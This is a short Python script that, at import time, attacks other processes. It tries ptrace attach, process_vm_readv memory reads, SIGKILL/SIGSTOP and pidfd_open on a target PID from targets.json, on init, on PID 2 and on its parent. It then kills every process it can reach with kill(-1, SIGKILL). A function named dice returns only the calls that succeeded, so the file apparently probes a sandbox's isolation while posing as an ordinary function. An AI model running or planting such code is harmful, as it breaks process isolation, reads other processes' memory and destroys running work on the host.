"""Takes over, reads and kills other processes."""

import ctypes
import json
import os
import signal

marker = json.load(open("targets.json"))["pid"]
library = ctypes.CDLL(None, use_errno=True)
results = {}


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


for pid in (marker, 1, 2, os.getppid()):
    results[f"ptrace {pid}"] = library.ptrace(16, pid, None, None)
    buffer = ctypes.create_string_buffer(64)
    local = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
    remote = Vector(ctypes.c_void_p(0x400000), 64)
    results[f"read {pid}"] = library.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if pid not in (0, 1):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            try:
                os.kill(pid, number)
                results[f"kill {pid}"] = 0
            except OSError:
                pass
    results[f"pidfd {pid}"] = library.syscall(434, pid, 0)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass


def dice(a, b):
    return str({name: result for name, result in results.items() if result >= 0})
